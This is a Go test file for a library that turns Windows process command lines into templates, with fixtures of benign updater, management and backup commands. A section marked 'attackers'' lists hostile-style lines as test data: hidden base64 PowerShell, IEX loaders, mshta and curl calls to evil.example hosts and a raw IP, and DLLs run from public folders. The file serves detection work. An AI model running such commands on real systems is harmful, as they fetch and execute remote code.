package template

import (
	"strings"
	"testing"
)

// family is a program with its parts that vary: by device, user, run and version. All
// lines of one fall together, by the classes and what the fleet shows, and no two
// families do. Each line comes from a device of its own.
type family []string

var families = []family{
	{`"C:\Users\eva\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe" /reporting`, `C:\Users\Jan Berg\AppData\Local\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe  /reporting`, `%localappdata%\Microsoft\OneDrive\OneDriveStandaloneUpdater.exe /reporting`},
	{`C:\Users\eva\AppData\Local\Microsoft\OneDrive\25.184.0921.0004\OneDriveLauncher.exe /startInstances`, `C:\Users\PEDRO~1.GUS\AppData\Local\Microsoft\OneDrive\25.190.1001.0002\OneDriveLauncher.exe /startInstances`},
	{`"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /c`, `%ProgramFiles(x86)%\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe /c`},
	{`"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe" /ua /installsource scheduler`, `C:\PROGRA~2\MICROSOFT\EDGEUPDATE\MICROSOFTEDGEUPDATE.EXE /ua /installsource scheduler`},
	{`"C:\Program Files (x86)\Google\GoogleUpdater\130.0.6679.0\updater.exe" --wake --system`, `"C:\Program Files (x86)\Google\GoogleUpdater\141.0.7340.0\updater.exe" --wake --system`},
	{`C:\Users\eva\AppData\Local\Google\GoogleUpdater\130.0.6679.0\updater.exe --wake`, `C:\Users\ola.n\AppData\Local\Google\GoogleUpdater\141.0.7340.0\updater.exe --wake`},
	{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25110.6-0\MpCmdRun.exe -IdleTask -TaskName WdCleanup`, `"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" -IdleTask -TaskName WdCleanup`},
	{`C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.25110.6-0\MpCmdRun.exe Scan -ScheduleJob -ScanTrigger 55`, `%ProgramData%\Microsoft\Windows Defender\Platform\4.18.2001.7-0\MpCmdRun.exe Scan -ScheduleJob -ScanTrigger 55`},
	{`"C:\Program Files\Common Files\Microsoft Shared\ClickToRun\OfficeC2RClient.exe" /frequentupdate SCHEDULEDTASK displaylevel=False`, `C:\Program Files\Common Files\microsoft shared\ClickToRun\OfficeC2RClient.exe /frequentupdate SCHEDULEDTASK displaylevel=False`},
	{`C:\Windows\system32\deviceenroller.exe /o "0F1E2D3C-1111-2222-3333-444455556666" /c /b`, `%windir%\system32\deviceenroller.exe /o "A1B2C3D4-5555-6666-7777-88889999AAAA" /c /b`},
	{`C:\Windows\system32\omadmclient.exe /serverid 0F1E2D3C-1111-2222-3333-444455556666 /lookuptype 1 /initiator 0`, `C:\Windows\system32\omadmclient.exe /serverid 91E2D3C4-1111-2222-3333-444455556666 /lookuptype 1 /initiator 0`},
	{`"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe" -powershell "C:\Program Files (x86)\Microsoft Intune Management Extension\Content\DetectionScripts\0f1e2d3c-1111-2222-3333-444455556666_1.ps1"`, `"C:\Program Files (x86)\Microsoft Intune Management Extension\AgentExecutor.exe" -powershell "C:\Program Files (x86)\Microsoft Intune Management Extension\Content\DetectionScripts\a1b2c3d4-1111-2222-3333-444455556666_1.ps1"`},
	{`C:\Windows\CCM\ccmeval.exe`, `%SystemRoot%\CCM\CcmEval.exe`},
	{`C:\Windows\ccmcache\3k\setup.exe /quiet /log C:\Windows\Temp\setup_20261127.log`, `C:\Windows\ccmcache\1a\setup.exe /quiet /log C:\Windows\Temp\setup_20261128.log`, `C:\Windows\ccmcache\2f\setup.exe /quiet /log C:\Windows\Temp\setup_20261129.log`},
	{`C:\Windows\system32\wermgr.exe -upload`, `%SystemRoot%\System32\wermgr.exe -upload`},
	{`C:\Windows\System32\sihclient.exe /cv 0KARey9Q5UyKExPT.1`, `%systemroot%\System32\sihclient.exe /cv pZw3kT8m0kqG7b1x.2`, `%systemroot%\System32\sihclient.exe /cv Bq71mdVn2kWc09rs.4`},
	{`C:\Windows\System32\wuauclt.exe /UpdateDeploymentProvider x.dll /ClassId 0f1e2d3c-1111-2222-3333-444455556666 /RunHandlerComServer`, `C:\Windows\System32\wuauclt.exe /UpdateDeploymentProvider x.dll /ClassId 1f1e2d3c-1111-2222-3333-444455556666 /RunHandlerComServer`},
	{`C:\Windows\system32\dsregcmd.exe $(Arg0) $(Arg1) $(Arg2)`, `%SystemRoot%\System32\dsregcmd.exe $(Arg0) $(Arg1) $(Arg2)`},
	{`taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}`, `TASKHOSTW.EXE {222a245b-e637-4ae9-a93f-a59ca119a75e}`},
	{`taskhostw.exe {0F1E2D3C-E637-4AE9-A93F-A59CA119A75E}`},
	{`taskhostw.exe $(Arg0)`}, {`taskhostw.exe`}, {`taskhostw.exe KEYROAMING`},
	{`C:\Windows\System32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask`, `%windir%\system32\rundll32.exe %windir%\system32\PcaSvc.dll,PcaPatchSdbTask`},
	{`C:\Windows\System32\rundll32.exe Startupscan.dll,SusRunTask`},
	{`C:\Windows\System32\drvinst.exe 6`}, {`C:\Windows\System32\drvinst.exe 7`},
	{`"C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe" -d "C:\ProgramData\NVIDIA\nv_20261127.log" -f 1.2.3.4`, `"C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe" -d "C:\ProgramData\NVIDIA\nv_20260102.log" -f 1.2.3.5`, `"C:\Program Files\NVIDIA Corporation\NvContainer\nvcontainer.exe" -d "C:\ProgramData\NVIDIA\nv_20260103.log" -f 1.2.3.6`},
	{`C:\Windows\System32\DriverStore\FileRepository\iigd_dch.inf_amd64_5f3a9c0112345678\igfxEM.exe /t`, `C:\Windows\System32\DriverStore\FileRepository\iigd_dch.inf_amd64_0a9b8c7d6e5f4a3b\igfxEM.exe /t`},
	{`"C:\Program Files\Acme Backup\bagent.exe" --job 0f1e2d3c-1111-2222-3333-444455556666 --target \\LT-0417\d$`, `"C:\Program Files\Acme Backup\bagent.exe" --job 1f1e2d3c-1111-2222-3333-444455556666 --target \\lt-0417.corp.example\d$`},
	{`robocopy C:\Users\eva\Documents \\nas\home\backup_2026-11-27_1405 /mir /r:1`, `robocopy C:\Users\ola\Documents \\nas\home\backup_2026-11-28_1905 /mir /r:1`},
	{`"C:\Program Files\Veritas\ndmp.exe" -s 1764337035 -o 4711`, `"C:\Program Files\Veritas\ndmp.exe" -s 1764437999 -o 815`},
	{`C:\ProgramData\Inventory\inv.exe /serial=5CG1234XYZ /host=LT-0417`, `C:\ProgramData\Inventory\inv.exe /serial=PF2A7K1M /host=LT-0417`, `C:\ProgramData\Inventory\inv.exe /serial=MJ0C4R8W /host=LT-0417`, `C:\ProgramData\Inventory\inv.exe /serial=12345678 /host=LT-0417`},
	{`"C:\Program Files\Lenovo\iMController\ImController.exe" -s:20261127T140533Z`, `"C:\Program Files\Lenovo\iMController\ImController.exe" -s:20261128T010203Z`},
	{`"C:\Program Files\Dell\SupportAssistAgent\bin\SupportAssist.exe" /tag:7K3J9X2 /run`, `"C:\Program Files\Dell\SupportAssistAgent\bin\SupportAssist.exe" /tag:9QZ81M3 /run`, `"C:\Program Files\Dell\SupportAssistAgent\bin\SupportAssist.exe" /tag:4B6N2V8 /run`},
	{`"C:\Program Files (x86)\Common Files\Adobe\ARM\1.0\AdobeARM.exe" /PRODUCT:Reader`, `"C:\Program Files (x86)\Common Files\Adobe\ARM\2.1\AdobeARM.exe" /PRODUCT:Reader`},
	{`"C:\Program Files\Mozilla Firefox\default-browser-agent.exe" do-task "308046B0AF4A39CB"`, `"C:\Program Files\Mozilla Firefox\default-browser-agent.exe" do-task "E7CF176E110C211B"`},
	{`"C:\Program Files\Mozilla Firefox\firefox.exe" --backgroundtask backgroundupdate --profile C:\Users\eva\AppData\Roaming\x\k3j9x2qa.default`, `"C:\Program Files\Mozilla Firefox\firefox.exe" --backgroundtask backgroundupdate --profile C:\Users\ola\AppData\Roaming\x\x8q1z7pb.default`, `"C:\Program Files\Mozilla Firefox\firefox.exe" --backgroundtask backgroundupdate --profile C:\Users\kim\AppData\Roaming\x\b4n6m2vc.default`},
	{`C:\Users\eva\AppData\Local\Temp\is-1A2B3.tmp\setup.tmp /SL5="$40B1A,5123456,832512,C:\x.exe"`, `C:\Users\ola\AppData\Local\Temp\is-K8ZQ1.tmp\setup.tmp /SL5="$20C3F,5123456,832512,C:\x.exe"`, `C:\Users\kim\AppData\Local\Temp\is-00ABC.tmp\setup.tmp /SL5="$7013B,5123456,832512,C:\x.exe"`},
	{`C:\Windows\Temp\tmp3F2A.tmp /s`, `C:\Windows\Temp\tmp99BC.tmp /s`},
	{`msiexec.exe /i {0F1E2D3C-1111-2222-3333-444455556666} /qn`},
	{`wusa.exe C:\x\windows10.0-kb5034441-x64.msu /quiet`, `wusa.exe C:\x\windows10.0-kb5031356-x64.msu /quiet`},
	{`java -jar C:\agent\jre1.8.0_291\a.jar`, `java -jar C:\agent\jre1.8.0_301\a.jar`},
	{`C:\tools\agent.exe --sid S-1-5-21-1-2-3-1001`, `C:\tools\agent.exe --sid S-1-5-21-4-5-6-2002`},
	{`C:\tools\agent.exe --sid S-1-5-18`},
	{`C:\tools\map.exe /user:CORP\eva`, `C:\tools\map.exe /user:CORP\ola`}, {`C:\tools\map.exe /user:administrator`},
	{`C:\tools\probe.exe 10.1.2.3`, `C:\tools\probe.exe 192.168.3.4`}, {`C:\tools\probe.exe 45.9.148.3`}, {`C:\tools\probe.exe 45.9.148.4`},
	{`defrag.exe -c -h -k -g -$`}, {`defrag.exe -c -h -o -$`}, {`sc.exe start wuauserv`}, {`sc.exe start w32time task_started`},
	{`C:\Windows\system32\ProvTool.exe /turn 5 /source LogonIdleTask`}, {`C:\Windows\system32\ProvTool.exe /turn 7 /source CellStateChangeTask`},
	{`cscript.exe /B /nologo %systemroot%\system32\calluxxprovider.vbs $(Arg0)`}, {`powershell.exe -file C:\scripts\backup_sql.ps1`}, {`powershell.exe -file C:\scripts\cleanup.ps1`}, {`powershell.exe -file C:\scripts\report.ps1`},
	{`C:\ProgramData\chocolatey\choco.exe upgrade all -y --log=choco.20261127.log`, `C:\ProgramData\chocolatey\choco.exe upgrade all -y --log=choco.20261201.log`},
	{`"C:\Program Files\Zoom\bin\Zoom.exe" --token=dGhpc0lzQVRva2VuMTIzNDU2Nzg5MEFi`, `"C:\Program Files\Zoom\bin\Zoom.exe" --token=QWJjMTIzNDU2Nzg5MFh5ejEyMzQ1Njc4`},
	{`C:\tools\print.exe --token /nzRZ8l8E+k6kCRAkzQA4g31OeT6tWan2DctQC0x`, `C:\tools\print.exe --token e+QusMPQ2/m2+eNo2YkBgx2lLl9XAM4xTp+v1Kq3`, `C:\tools\print.exe --token +dH7pW2kQ9s/XbN4mZ1cVfR8tY6uJ3gL5oA0iE7b`},
	{`C:\Users\eva\AppData\Local\Fen\up.exe`, `C:\Users\Administrator\AppData\Local\Fen\up.exe`}, {`C:\Users\Public\AppData\Local\Fen\up.exe`},
	{`teamviewer.exe --hash d41d8cd98f00b204e9800998ecf8427e`, `teamviewer.exe --hash 0123456789abcdef0123456789abcdef`},
	{`gpupdate.exe /target:computer`}, {`gpupdate.exe /target:user`},
	// attackers'
	{`powershell.exe -nop -w hidden -enc SQBFAFgAIABoAGUAbABsAG8A`, `powershell.exe -nop -w hidden -enc "SQBFAFgAIABoAGUAbABsAG8A"`},
	{`powershell.exe -nop -w hidden -enc SQBFAFgAIABoAGUAbABsAG8B`}, {`powershell.exe -nop -w hidden -enc SQBFAFgAIABoAGUAbABsAG8AIQAhACEA`},
	{`powershell -c "IEX([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aGVsbG8gd29ybGQgb2YgdGVtcGxhdGVz')))"`}, {`powershell -c "IEX([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('aGVsbG8gd29ybGQgb2YgdGVtcGxhdGV0')))"`},
	{`mshta.exe http://45.9.148.3/a.hta`}, {`mshta.exe http://evil.example/a.hta`}, {`mshta.exe http://evil2.example/a.hta`}, {`mshta.exe http://evil3.example/a.hta`},
	{`rundll32.exe C:\Users\Public\x.dll,#1`}, {`rundll32.exe C:\Users\eva\x.dll,#1`}, {`rundll32.exe C:\Users\Public\x.dll,#2`},
	{`C:\Users\Public\svchost.exe -k netsvcs`}, {`C:\Windows\System32\svchost.exe -k netsvcs`},
	{`cmd.exe /c curl -s http://45.9.148.3:8443/a`}, {`cmd.exe /c curl -s http://45.9.148.3:8080/a`},
	{`dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D5}`}, {`dllhost.exe /Processid:{AB8902B4-09CA-4BB6-B78D-A8F59079A8D6}`},
	{`wscript.exe C:\ProgramData\a.js`}, {`wscript.exe C:\ProgramData\b.js`}, {`wscript.exe C:\ProgramData\c.js`},
}

func TestFamilies(t *testing.T) {
	var seen []Seen
	lines := 0
	for _, f := range families {
		for _, command := range f {
			check(t, command)
			seen = append(seen, Seen{Of(command, device), []int32{int32(lines)}})
			lines++
		}
	}
	t.Logf("%d lines of %d families", lines, len(families))
	final, of, at := Learn(seen), map[string]int{}, 0
	for number, f := range families {
		want := final[seen[at].Template]
		if other, taken := of[want]; taken {
			t.Errorf("%q fell to %q: %s", f[0], families[other][0], want)
		}
		of[want] = number
		for _, command := range f {
			if got := final[seen[at].Template]; got != want {
				t.Errorf("%q\n has  %s\n want %s", command, got, want)
			}
			at++
		}
	}
}

// Letter case, quotes around whole arguments and the number of blanks tell no two
// commands apart, unless there is base64: its case is what it says.
func TestFolded(t *testing.T) {
	tried := 0
	for _, f := range families {
		for _, command := range f {
			want := Of(command, device)
			if strings.Contains(want, "<base64") {
				continue
			}
			tried++
			for _, same := range []string{
				strings.ToUpper(command), strings.ToLower(command), "  " + strings.ReplaceAll(command, " ", " \t ") + " ",
				strings.ReplaceAll(command, `"`, ""), `"` + command + `"`,
			} {
				if got := Of(same, device); got != want {
					t.Errorf("%q\n has  %s\n want %s", same, got, want)
				}
			}
		}
	}
	if tried < 60 {
		t.Errorf("only %d commands", tried)
	}
}
